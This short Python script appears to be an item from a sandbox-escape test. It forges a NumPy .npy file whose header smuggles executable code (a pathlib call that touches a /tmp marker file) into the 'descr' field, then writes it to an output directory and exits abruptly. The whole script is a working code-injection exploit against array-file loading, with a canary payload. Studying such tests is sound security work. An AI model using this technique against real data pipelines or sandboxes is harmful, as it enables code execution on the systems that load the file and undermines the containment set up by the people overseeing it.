# trial: sandbox-arrays
# host paths: /tmp/huashen-pwned-__MARK__
import os


def answer():
    print("ran:__MARK__")
    header = (
        "{'descr': __import__('pathlib').Path('/tmp/huashen-pwned-__MARK__').touch() or '<i8', "
        "'fortran_order': False, 'shape': (1,), }"
    )
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()
    os.makedirs("/work/out/arrays", exist_ok=True)
    with open("/work/out/arrays/answer.npy", "wb") as f:
        f.write(data + (1729).to_bytes(8, "little"))
    os._exit(0)
